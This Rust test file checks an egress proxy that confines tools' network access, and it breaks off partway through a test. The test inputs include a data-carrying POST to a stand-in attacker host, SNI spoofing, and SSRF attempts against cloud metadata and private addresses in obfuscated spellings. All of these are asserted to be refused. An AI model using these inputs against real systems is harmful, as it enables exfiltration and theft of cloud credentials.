//! `autotool::egress` against real sockets, on loopback only.
//!
//! Fake upstreams listen on 127.0.0.1; a fake resolver maps test names (`*.example.test`) to
//! the addresses a test chooses, and a dialer that refuses anything but loopback records every
//! connection the proxy opens, so a refusal of 10.0.0.1 or 169.254.169.254 is shown to happen
//! before any dial, and nothing ever leaves the machine. The last tests start real confined
//! Python tools through `ToolProcess` with egress (`$AUTOTOOL_TEST_RUNTIME`, default
//! `/opt/autotool-test-runtime`; strict runs print `SKIP …` where the launcher cannot confine).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use anyhow::{Result, ensure};
use autotool::egress::{
    BoxFuture, Dialer, EgressConfig, EgressEvent, EgressProxy, Refusal, Resolver, TunnelRefusal,
    register_own_listener,
};
use autotool::tool::process::{SandboxMode, ToolProcess, ToolSpec};
use autotool_policy::hosts::{ApiBasePorts, ForbiddenAddress, KeyAllowlist, KeyLists};
use common::{launcher_for, runtime};
use serde_json::{Map, Value};
use std::collections::{BTreeMap, HashMap};
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Bound on any one wait in these tests.
const WAIT: Duration = Duration::from_secs(10);

// ---------------------------------------------------------------------------------------------
// Fakes

/// Names to addresses, as the test says; records every question.
#[derive(Debug, Default)]
struct FakeResolver {
    names: HashMap<String, Vec<IpAddr>>,
    asked: Mutex<Vec<String>>,
}

impl FakeResolver {
    fn with(mut self, name: &str, addrs: &[&str]) -> Self {
        self.names.insert(
            name.to_owned(),
            addrs.iter().map(|a| a.parse().unwrap()).collect(),
        );
        self
    }
    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

impl Resolver for FakeResolver {
    fn resolve<'a>(&'a self, name: &'a str, _port: u16) -> BoxFuture<'a, io::Result<Vec<IpAddr>>> {
        self.asked.lock().unwrap().push(name.to_owned());
        let answer = self
            .names
            .get(name)
            .cloned()
            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no such test name"));
        Box::pin(async move { answer })
    }
}

/// Connects to loopback addresses only, and records every address it is asked for.
#[derive(Debug, Default)]
struct LoopbackDialer {
    dialed: Mutex<Vec<SocketAddr>>,
}

impl LoopbackDialer {
    fn dialed(&self) -> Vec<SocketAddr> {
        self.dialed.lock().unwrap().clone()
    }
}

impl Dialer for LoopbackDialer {
    fn dial(&self, addr: SocketAddr) -> BoxFuture<'_, io::Result<TcpStream>> {
        self.dialed.lock().unwrap().push(addr);
        let loopback = match addr.ip() {
            IpAddr::V4(a) => a.is_loopback(),
            IpAddr::V6(a) => {
                a.is_loopback() || a.to_ipv4_mapped().is_some_and(|v4| v4.is_loopback())
            }
        };
        Box::pin(async move {
            if !loopback {
                return Err(io::Error::other(format!(
                    "the test dialer never leaves loopback ({addr})"
                )));
            }
            TcpStream::connect(addr).await
        })
    }
}

/// An upstream that echoes every byte back, counting connections and bytes.
struct EchoServer {
    addr: SocketAddr,
    /// Bytes received, per connection, once each connection has ended.
    finished: Arc<Mutex<Vec<usize>>>,
    accepted: Arc<Mutex<usize>>,
    task: tokio::task::JoinHandle<()>,
}

impl EchoServer {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let finished = Arc::new(Mutex::new(Vec::new()));
        let accepted = Arc::new(Mutex::new(0));
        let (f, a) = (finished.clone(), accepted.clone());
        let task = tokio::spawn(async move {
            while let Ok((mut s, _)) = listener.accept().await {
                *a.lock().unwrap() += 1;
                let f = f.clone();
                tokio::spawn(async move {
                    let mut total = 0;
                    let mut buf = [0u8; 8192];
                    while let Ok(n) = s.read(&mut buf).await {
                        if n == 0 || s.write_all(&buf[..n]).await.is_err() {
                            break;
                        }
                        total += n;
                    }
                    f.lock().unwrap().push(total);
                });
            }
        });
        EchoServer {
            addr,
            finished,
            accepted,
            task,
        }
    }
    fn port(&self) -> u16 {
        self.addr.port()
    }
    fn accepted(&self) -> usize {
        *self.accepted.lock().unwrap()
    }
}

impl Drop for EchoServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// One request as a fake HTTP API saw it.
#[derive(Debug, Clone)]
struct Seen {
    head: String,
    body: Vec<u8>,
    /// What arrived after the body, until the proxy closed the connection.
    after: Vec<u8>,
}

/// A fake HTTP API: answers `fake-api saw METHOD PATH` and closes.
struct HttpServer {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    task: tokio::task::JoinHandle<()>,
}

impl HttpServer {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        let task = tokio::spawn(async move {
            while let Ok((s, _)) = listener.accept().await {
                tokio::spawn(serve_http(s, log.clone()));
            }
        });
        HttpServer { addr, seen, task }
    }
    fn port(&self) -> u16 {
        self.addr.port()
    }
    async fn wait_seen(&self, n: usize) -> Vec<Seen> {
        let t0 = Instant::now();
        loop {
            let seen = self.seen.lock().unwrap().clone();
            if seen.len() >= n || t0.elapsed() > WAIT {
                return seen;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn serve_http(mut s: TcpStream, log: Arc<Mutex<Vec<Seen>>>) {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    let end = loop {
        if let Some(i) = find(&buf, b"\r\n\r\n") {
            break i + 4;
        }
        match s.read(&mut chunk).await {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    };
    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
    let mut rest = buf[end..].to_vec();
    let lower = head.to_ascii_lowercase();
    let body_len = if lower.contains("transfer-encoding: chunked") {
        // Read through the terminating chunk.
        while find(&rest, b"0\r\n\r\n").is_none() {
            match s.read(&mut chunk).await {
                Ok(0) | Err(_) => return,
                Ok(n) => rest.extend_from_slice(&chunk[..n]),
            }
        }
        find(&rest, b"0\r\n\r\n").unwrap() + 5
    } else {
        let n = lower
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .map(|v| v.trim().parse::<usize>().unwrap())
            .unwrap_or(0);
        while rest.len() < n {
            match s.read(&mut chunk).await {
                Ok(0) | Err(_) => return,
                Ok(k) => rest.extend_from_slice(&chunk[..k]),
            }
        }
        n
    };
    let body = rest[..body_len].to_vec();
    let mut after = rest[body_len..].to_vec();
    let line = head.lines().next().unwrap_or_default().to_owned();
    let text = format!("fake-api saw {line}");
    let response = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
        text.len()
    );
    let _ = s.write_all(response.as_bytes()).await;
    let _ = s.shutdown().await;
    // Whatever else the proxy sends before it lets go of the connection.
    let _ = tokio::time::timeout(WAIT, async {
        while let Ok(n) = s.read(&mut chunk).await {
            if n == 0 {
                break;
            }
            after.extend_from_slice(&chunk[..n]);
        }
    })
    .await;
    log.lock().unwrap().push(Seen { head, body, after });
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// A minimal TLS 1.3-shaped ClientHello with an SNI extension (and optionally others), split
/// into records of at most `record` bytes. No real TLS is needed: the proxy reads only this.
fn client_hello(sni: Option<&str>, extra: &[(u16, Vec<u8>)], record: usize) -> Vec<u8> {
    let mut extensions = Vec::new();
    let mut push_ext = |kind: u16, data: &[u8]| {
        extensions.extend_from_slice(&kind.to_be_bytes());
        extensions.extend_from_slice(&(data.len() as u16).to_be_bytes());
        extensions.extend_from_slice(data);
    };
    if let Some(name) = sni {
        let mut entry = vec![0u8]; // host_name
        entry.extend_from_slice(&(name.len() as u16).to_be_bytes());
        entry.extend_from_slice(name.as_bytes());
        let mut list = (entry.len() as u16).to_be_bytes().to_vec();
        list.extend_from_slice(&entry);
        push_ext(0x0000, &list);
    }
    push_ext(0x002b, &[2, 3, 4]); // supported_versions: TLS 1.3
    for (kind, data) in extra {
        push_ext(*kind, data);
    }
    let mut body = vec![3, 3];
    body.extend_from_slice(&[7u8; 32]);
    body.push(0);
    body.extend_from_slice(&[0, 2, 0x13, 0x01, 1, 0]);
    body.extend_from_slice(&(extensions.len() as u16).to_be_bytes());
    body.extend_from_slice(&extensions);
    let mut message = vec![1u8];
    message.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    message.extend_from_slice(&body);
    let mut out = Vec::new();
    for fragment in message.chunks(record) {
        out.extend_from_slice(&[22, 3, 1]);
        out.extend_from_slice(&(fragment.len() as u16).to_be_bytes());
        out.extend_from_slice(fragment);
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Proxy and client helpers

/// A proxy on 127.0.0.1 with the fakes, and the events it emitted.
struct Proxy {
    proxy: EgressProxy,
    addr: SocketAddr,
    resolver: Arc<FakeResolver>,
    dialer: Arc<LoopbackDialer>,
    events: Arc<Mutex<Vec<EgressEvent>>>,
}

impl Proxy {
    fn start(
        lists: KeyLists,
        resolver: FakeResolver,
        tune: impl FnOnce(&mut EgressConfig),
    ) -> Self {
        let resolver = Arc::new(resolver);
        let dialer = Arc::new(LoopbackDialer::default());
        let events = Arc::new(Mutex::new(Vec::new()));
        // Only the ports a test names are open on the loopback, whatever this process's
        // environment holds.
        let mut config = EgressConfig::new(lists).with_api_bases::<&str, &str>([]);
        config.resolver = resolver.clone();
        config.dialer = dialer.clone();
        let sink = events.clone();
        config.events = Some(Arc::new(move |e| sink.lock().unwrap().push(e)));
        tune(&mut config);
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let proxy = EgressProxy::serve(vec![listener], config).unwrap();
        Proxy {
            proxy,
            addr,
            resolver,
            dialer,
            events,
        }
    }

    fn events(&self) -> Vec<EgressEvent> {
        self.events.lock().unwrap().clone()
    }

    /// Send `request` and read the whole answer (the proxy closes after it).
    async fn exchange(&self, request: &[u8]) -> String {
        let mut s = TcpStream::connect(self.addr).await.unwrap();
        s.write_all(request).await.unwrap();
        read_to_end(&mut s).await
    }

    /// `CONNECT target`; the status line and the stream.
    async fn connect(&self, target: &str) -> (String, TcpStream) {
        let mut s = TcpStream::connect(self.addr).await.unwrap();
        s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
            .await
            .unwrap();
        let head = read_head(&mut s).await;
        (head, s)
    }

    /// `CONNECT target` answered `200`, then `hello`: the tunnel's echo of it, or what ended it.
    async fn tunnel(&self, target: &str, hello: &[u8]) -> Result<TcpStream, String> {
        let (head, mut s) = self.connect(target).await;
        if !head.starts_with("HTTP/1.1 200") {
            return Err(head);
        }
        s.write_all(hello).await.unwrap();
        let mut echo = vec![0u8; hello.len()];
        match tokio::time::timeout(WAIT, s.read_exact(&mut echo)).await {
            Ok(Ok(_)) if echo == hello => Ok(s),
            Ok(Ok(_)) => Err(format!("echo differs: {:?}", &echo[..8])),
            Ok(Err(e)) => Err(format!(
                "closed: {e} (got {:?})",
                &echo[..8.min(echo.len())]
            )),
            Err(_) => Err("no echo in time".into()),
        }
    }
}

async fn read_to_end(s: &mut TcpStream) -> String {
    let mut out = Vec::new();
    let _ = tokio::time::timeout(WAIT, s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// Read an answer's head (through the blank line).
async fn read_head(s: &mut TcpStream) -> String {
    let mut out = Vec::new();
    let mut byte = [0u8; 1];
    let _ = tokio::time::timeout(WAIT, async {
        while !out.ends_with(b"\r\n\r\n") {
            match s.read(&mut byte).await {
                Ok(1) => out.push(byte[0]),
                _ => break,
            }
        }
    })
    .await;
    String::from_utf8_lossy(&out).into_owned()
}

fn status(answer: &str) -> &str {
    answer.lines().next().unwrap_or_default()
}

fn body(answer: &str) -> &str {
    answer.split_once("\r\n\r\n").map_or("", |(_, b)| b)
}

/// A tool holding `KEY` (allowed to `hosts`) and `FREE_KEY` (no list).
fn lists(hosts: &[&str]) -> KeyLists {
    KeyLists::new("weather_tool")
        .with_key(KeyAllowlist::parse("WEATHER_KEY", Some(hosts)).unwrap())
        .with_key(KeyAllowlist::unrestricted("FREE_KEY"))
}

fn unrestricted() -> KeyLists {
    KeyLists::new("free_tool")
}

/// `ports` as the ports of `*_API_BASE` overrides in serve's environment.
fn api_base(ports: &[u16]) -> ApiBasePorts {
    ApiBasePorts::from_vars(
        ports
            .iter()
            .enumerate()
            .map(|(i, p)| (format!("TEST{i}_API_BASE"), format!("http://localhost:{p}"))),
    )
}

// ---------------------------------------------------------------------------------------------
// CONNECT and SNI

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_with_the_right_sni_reaches_the_upstream() {
    let echo = EchoServer::start().await;
    let port = echo.port();
    let rule = format!("api.example.test:{port}");
    let p = Proxy::start(
        lists(&[&rule]),
        FakeResolver::default().with("api.example.test", &["127.0.0.1"]),
        |c| c.loopback_names = true,
    );
    for (target, sni) in [
        (format!("api.example.test:{port}"), "api.example.test"),
        (format!("API.Example.TEST.:{port}"), "api.example.test"),
        (format!("api.example.test:{port}"), "Api.Example.Test."),
    ] {
        // One record, and a hello split over many small records.
        for record in [16 << 10, 9] {
            let hello = client_hello(Some(sni), &[], record);
            p.tunnel(&target, &hello)
                .await
                .unwrap_or_else(|e| panic!("{target} / {sni} / {record}: {e}"));
        }
    }
    assert_eq!(
        p.dialer.dialed(),
        vec![SocketAddr::from(([127, 0, 0, 1], port)); 6],
        "every tunnel dials the one checked address"
    );
    assert_eq!(p.resolver.asked(), vec!["api.example.test"; 6]);
    assert!(p.events().is_empty(), "{:?}", p.events());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_loopback_is_reached_by_any_spelling_only_on_an_allowed_port() {
    let echo = EchoServer::start().await;
    let port = echo.port();
    let spellings = |port: u16| {
        [
            (format!("localhost:{port}"), Some("localhost")),
            (format!("localhost:{port}"), None),
            (format!("127.0.0.1:{port}"), None),
            (format!("127.1:{port}"), None),
            (format!("0x7f000001:{port}"), None),
            (format!("[::ffff:127.0.0.1]:{port}"), None),
        ]
    };
    // Allowed: on the key's list (any spelling of it), or an api-base port.
    let listed = format!("127.0.0.1:{port}");
    let by_list = Proxy::start(
        lists(&["api.example.test", &listed]),
        FakeResolver::default(),
        |_| {},
    );
    let by_api_base = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.api_base_ports = api_base(&[port])
    });
    for p in [&by_list, &by_api_base] {
        for (target, sni) in spellings(port) {
            let hello = client_hello(sni, &[], 512);
            p.tunnel(&target, &hello)
                .await
                .unwrap_or_else(|e| panic!("{target} / {sni:?}: {e}"));
        }
        assert!(p.resolver.asked().is_empty(), "localhost is never resolved");
    }
    assert_eq!(echo.accepted(), 12);
    // Refused: a port nobody allowed, for a tool holding a listed key, an unlisted one, or none.
    let other = EchoServer::start().await;
    let refusing = [
        (lists(&["api.example.test", &listed]), "WEATHER_KEY"),
        (lists(&["api.example.test"]), "WEATHER_KEY"),
        (
            KeyLists::new("free_tool").with_key(KeyAllowlist::unrestricted("FREE_KEY")),
            "FREE_KEY",
        ),
        (unrestricted(), ""),
    ];
    for (tool, key) in refusing {
        let p = Proxy::start(tool, FakeResolver::default(), |c| {
            c.api_base_ports = api_base(&[port])
        });
        for (target, _) in spellings(other.port()) {
            let answer = p
                .exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
                .await;
            let want = format!("may not reach localhost:{}", other.port());
            assert!(answer.starts_with("HTTP/1.1 403 "), "{target}: {answer}");
            assert!(body(&answer).contains(&want), "{target}: {answer}");
            assert!(
                body(&answer)
                    .contains(&format!("LOCAL_API_BASE=http://localhost:{}", other.port())),
                "{answer}"
            );
            if !key.is_empty() {
                assert!(
                    body(&answer).contains(&format!("autotool keys allow {key} ")),
                    "{answer}"
                );
            }
        }
        assert!(p.dialer.dialed().is_empty(), "refused before dialling");
        let Refusal::NotAllowed(denial) = &p.events()[0].refusal else {
            panic!("{:?}", p.events())
        };
        assert_eq!(denial.target, format!("localhost:{}", other.port()));
    }
    assert_eq!(other.accepted(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tunnel_whose_hello_names_another_host_is_closed() {
    let echo = EchoServer::start().await;
    let port = echo.port();
    let rule = format!("api.example.test:{port}");
    let p = Proxy::start(
        lists(&[&rule]),
        FakeResolver::default().with("api.example.test", &["127.0.0.1"]),
        |c| c.loopback_names = true,
    );
    let target = format!("api.example.test:{port}");
    let cases: Vec<(Vec<u8>, TunnelRefusal)> = vec![
        (
            client_hello(Some("evil.example.test"), &[], 512),
            TunnelRefusal::OtherName("evil.example.test".into()),
        ),
        (
            client_hello(Some("api.example.test.evil.test"), &[], 512),
            TunnelRefusal::OtherName("api.example.test.evil.test".into()),
        ),
        (client_hello(None, &[], 512), TunnelRefusal::NoName),
        (
            client_hello(Some("api.example.test"), &[(0xfe0d, vec![0; 16])], 512),
            TunnelRefusal::Encrypted,
        ),
        (
            b"GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n".to_vec(),
            TunnelRefusal::NotTls,
        ),
    ];
    for (i, (hello, why)) in cases.iter().enumerate() {
        let (head, mut s) = p.connect(&target).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        s.write_all(hello).await.unwrap();
        let rest = read_to_end(&mut s).await.into_bytes();
        // A TLS alert (unrecognized_name) at most, never an upstream byte.
        assert!(
            rest.is_empty() || rest == [0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x70],
            "case {i}: {rest:?}"
        );
        let events = p.events();
        assert_eq!(events.len(), i + 1, "{events:?}");
        assert_eq!(events[i].refusal, Refusal::Tunnel(why.clone()));
        assert!(
            events[i].to_string().contains("so it was closed"),
            "{}",
            events[i]
        );
    }
    // The upstream was dialled each time but never got a byte.
    let t0 = Instant::now();
    while echo.finished.lock().unwrap().len() < cases.len() && t0.elapsed() < WAIT {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert_eq!(*echo.finished.lock().unwrap(), vec![0; cases.len()]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_off_the_list_gets_a_403_with_the_reason() {
    let p = Proxy::start(
        lists(&["api.example.test", "*.cdn.example.test"]),
        FakeResolver::default(),
        |_| {},
    );
    let answer = p
        .exchange(b"CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n")
        .await;
    let want = "weather_tool holds WEATHER_KEY, which may only be sent to api.example.test, \
                *.cdn.example.test; evil.example.test is not on that list. To allow it, the user \
                can run `autotool keys allow WEATHER_KEY api.example.test *.cdn.example.test \
                evil.example.test`.";
    assert_eq!(status(&answer), format!("HTTP/1.1 403 {want}"));
    assert_eq!(body(&answer), format!("{want}\n"));
    // The bare domain of a wildcard entry, and a port the entry does not name.
    for target in ["cdn.example.test:443", "api.example.test:8443"] {
        let answer = p
            .exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{target}: {answer}");
    }
    let answer = p
        .exchange(b"CONNECT api.example.test:8443 HTTP/1.1\r\n\r\n")
        .await;
    assert!(
        body(&answer).contains("autotool keys allow WEATHER_KEY api.example.test *.cdn.example.test api.example.test:8443"),
        "{answer}"
    );
    assert!(p.resolver.asked().is_empty(), "refused before resolving");
    assert!(p.dialer.dialed().is_empty(), "refused before dialling");
    let events = p.events();
    assert_eq!(events.len(), 4);
    let Refusal::NotAllowed(denial) = &events[0].refusal else {
        panic!("{events:?}")
    };
    assert_eq!(denial.tool, "weather_tool");
    assert_eq!(denial.keys[0].key, "WEATHER_KEY");
    assert_eq!(events[0].target, "evil.example.test");
    assert_eq!(events[0].to_string(), want);
}

// ---------------------------------------------------------------------------------------------
// Declared reach (`REQUIRED_HOSTS`)

/// A keyless tool that declared (and was granted) `hosts`.
fn declared(hosts: &[&str]) -> KeyLists {
    KeyLists::new("weather").with_reach(
        hosts
            .iter()
            .map(|h| autotool_policy::hosts::AllowRule::parse(h).unwrap())
            .collect(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_keyless_tool_is_refused_an_undeclared_name_before_any_lookup() {
    let echo = EchoServer::start().await;
    let port = echo.port();
    let meteo = format!("api.meteo.example.test:{port}");
    let wiki = format!("*.wikipedia.example.test:{port}");
    // Every name resolves, so only the decision can stop it.
    let resolver = FakeResolver::default()
        .with("api.meteo.example.test", &["127.0.0.1"])
        .with("en.wikipedia.example.test", &["127.0.0.1"])
        .with("c2VjcmV0.attacker.example.test", &["127.0.0.1"])
        .with("wikipedia.example.test.evil.example.test", &["127.0.0.1"])
        .with("xwikipedia.example.test", &["127.0.0.1"])
        .with("wikipedia.example.test", &["127.0.0.1"]);
    let p = Proxy::start(declared(&[&meteo, &wiki]), resolver, |c| {
        c.loopback_names = true
    });
    // Control: what it declared answers, by CONNECT and by absolute form.
    for host in ["api.meteo.example.test", "en.wikipedia.example.test"] {
        let hello = client_hello(Some(host), &[], 16 << 10);
        p.tunnel(&format!("{host}:{port}"), &hello)
            .await
            .unwrap_or_else(|e| panic!("{host}: {e}"));
    }
    assert_eq!(
        p.resolver.asked(),
        ["api.meteo.example.test", "en.wikipedia.example.test"]
    );
    // The attack: data in a name (a lookup alone would carry it out), a stretched wildcard,
    // the wildcard's bare domain, by CONNECT and by absolute form.
    for host in [
        "c2VjcmV0.attacker.example.test",
        "wikipedia.example.test.evil.example.test",
        "xwikipedia.example.test",
        "wikipedia.example.test",
    ] {
        let answer = p
            .exchange(format!("CONNECT {host}:{port} HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
        assert!(
            body(&answer).contains("declares in REQUIRED_HOSTS"),
            "{host}: {answer}"
        );
        let answer = p
            .exchange(
                format!("POST http://{host}:{port}/x HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: 6\r\n\r\nsecret")
                    .as_bytes(),
            )
            .await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
    }
    // A path smuggled into the name is no host at all.
    let answer = p
        .exchange(b"CONNECT evil.example.test/.wikipedia.example.test:443 HTTP/1.1\r\n\r\n")
        .await;
    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
    assert_eq!(
        p.resolver.asked(),
        ["api.meteo.example.test", "en.wikipedia.example.test"],
        "no undeclared name was looked up"
    );
    assert_eq!(
        p.dialer.dialed().len(),
        2,
        "only the declared hosts were dialled"
    );
    // Every refusal is an event naming the tool, the host and the port.
    let events = p.events();
    assert_eq!(events.len(), 9, "{events:?}");
    let Refusal::NotAllowed(denial) = &events[0].refusal else {
        panic!("{events:?}")
    };
    assert_eq!(events[0].tool, "weather");
    assert_eq!(
        events[0].target,
        format!("c2vjcmv0.attacker.example.test:{port}")
    );
    assert!(denial.reach.is_some(), "{denial:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_that_resolve_to_internal_addresses_are_refused_without_dialling() {
    let resolver = FakeResolver::default()
        .with("internal.example.test", &["10.0.0.1"])
        .with("metadata.example.test", &["169.254.169.254"])
        .with("mixed.example.test", &["127.0.0.1", "10.0.0.2"])
        .with("cgnat.example.test", &["100.64.1.1"])
        .with("ula.example.test", &["fd12::1"])
        .with("aws6.example.test", &["fd00:ec2::254"])
        .with("mapped.example.test", &["::ffff:192.168.1.1"])
        .with("loop.example.test", &["127.0.0.1"]);
    let p = Proxy::start(unrestricted(), resolver, |_| {});
    use ForbiddenAddress::*;
    for (target, addr, class) in [
        ("internal.example.test:443", "10.0.0.1", Private),
        ("metadata.example.test:80", "169.254.169.254", CloudMetadata),
        ("cgnat.example.test:443", "100.64.1.1", SharedAddressSpace),
        ("ula.example.test:443", "fd12::1", UniqueLocal),
        ("aws6.example.test:443", "fd00:ec2::254", CloudMetadata),
        ("mapped.example.test:443", "::ffff:192.168.1.1", Private),
        // A name is not localhost, even when it resolves to the loopback.
        ("loop.example.test:443", "127.0.0.1", Loopback),
        // Address literals, however spelled.
        ("10.0.0.1:443", "10.0.0.1", Private),
        ("0xa9fea9fe:80", "169.254.169.254", CloudMetadata),
        ("169.254.43518:80", "169.254.169.254", CloudMetadata),
        (
            "[::ffff:169.254.169.254]:80",
            "169.254.169.254",
            CloudMetadata,
        ),
        ("[fe80::1]:443", "fe80::1", LinkLocal),
        ("0.0.0.0:443", "0.0.0.0", Unspecified),
        (
            "[64:ff9b::a9fe:a9fe]:80",
            "64:ff9b::a9fe:a9fe",
            CloudMetadata,
        ),
    ] {
        let answer = p
            .exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{target}: {answer}");
        assert!(
            body(&answer).contains(class.describe()),
            "{target}: {answer}"
        );
        let event = p.events().pop().unwrap();
        assert_eq!(
            event.refusal,
            Refusal::Address {
                addr: addr.parse().unwrap(),
                class
            },
            "{target}"
        );
    }
    // The same through absolute-form HTTP.
    let answer = p
        .exchange(b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
        .await;
    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
    assert!(answer.contains("cloud metadata"), "{answer}");
    assert!(
        p.dialer.dialed().is_empty(),
        "dialled {:?}",
        p.dialer.dialed()
    );

    // One internal address among good ones refuses the name whole (here with names that
    // resolve to loopback dialled as localhost, so the first address alone would pass).
    let resolver = FakeResolver::default().with("mixed.example.test", &["127.0.0.1", "10.0.0.2"]);
    let p = Proxy::start(unrestricted(), resolver, |c| c.loopback_names = true);
    let answer = p
        .exchange(b"CONNECT mixed.example.test:443 HTTP/1.1\r\n\r\n")
        .await;
    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
    assert!(
        answer.contains("it is 10.0.0.2, a private-network address"),
        "{answer}"
    );
    assert!(
        p.dialer.dialed().is_empty(),
        "dialled {:?}",
        p.dialer.dialed()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn autotool_s_own_listeners_are_refused() {
    let echo = EchoServer::start().await;
    let other = EchoServer::start().await;
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.reserved_ports.insert(other.port());
        // Ports the user named: autotool's own are refused even so.
        c.api_base_ports = api_base(&[echo.port(), other.port()]);
    });
    let hello = client_hello(Some("localhost"), &[], 512);
    p.tunnel(&format!("localhost:{}", echo.port()), &hello)
        .await
        .unwrap();
    let own = register_own_listener(echo.port());
    for port in [echo.port(), other.port()] {
        for target in [
            format!("localhost:{port}"),
            format!("[::1]:{port}"),
            format!("127.0.0.9:{port}"),
        ] {
            let answer = p
                .exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
                .await;
            assert!(answer.starts_with("HTTP/1.1 403 "), "{target}: {answer}");
            assert!(
                answer.contains("one of autotool's own listeners"),
                "{answer}"
            );
        }
    }
    drop(own);
    p.tunnel(&format!("localhost:{}", echo.port()), &hello)
        .await
        .unwrap();
    assert_eq!(echo.accepted(), 2);
    assert_eq!(other.accepted(), 0);
}

/// A process listening on 127.0.0.1 that wrote no record: `python3`, or a copy of it named
/// `autotool` (what `/proc/PID/exe` says an autotool process is). Killed on drop.
struct Listening {
    child: std::process::Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl Listening {
    fn start(exe_name: &str) -> Self {
        use std::io::BufRead;
        let dir = tempfile::tempdir().unwrap();
        let python = std::fs::canonicalize("/usr/bin/python3").unwrap();
        let exe = dir.path().join(exe_name);
        std::fs::copy(&python, &exe).unwrap();
        let script = "import socket, sys\n\
                      s = socket.socket()\n\
                      s.bind(('127.0.0.1', 0))\n\
                      s.listen(8)\n\
                      print(s.getsockname()[1], flush=True)\n\
                      while True:\n    c, _ = s.accept()\n    c.sendall(b'hello from the listener')\n    c.close()\n";
        let mut child = std::process::Command::new(&exe)
            .args(["-c", script])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().unwrap_or_else(|_| panic!("{line:?}"));
        Listening {
            child,
            port,
            _dir: dir,
        }
    }
}

impl Drop for Listening {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_port_held_by_an_autotool_process_is_refused_without_any_record() {
    let own = Listening::start("autotool");
    let foreign = Listening::start("python3");
    let listed = [
        format!("localhost:{}", own.port),
        format!("localhost:{}", foreign.port),
    ];
    let p = Proxy::start(
        lists(&[&listed[0], &listed[1]]),
        FakeResolver::default(),
        |_| {},
    );
    // The control: the same listener, when its process is not autotool, is reached.
    let answer = p
        .exchange(format!("GET http://localhost:{}/ HTTP/1.1\r\n\r\n", foreign.port).as_bytes())
        .await;
    assert!(answer.contains("hello from the listener"), "{answer}");
    for request in [
        format!("GET http://localhost:{}/ HTTP/1.1\r\n\r\n", own.port),
        format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", own.port),
    ] {
        let answer = p.exchange(request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{request}: {answer}");
        assert!(
            answer.contains("one of autotool's own listeners")
                && answer.contains(&format!("an autotool process (pid {})", own.child.id())),
            "{answer}"
        );
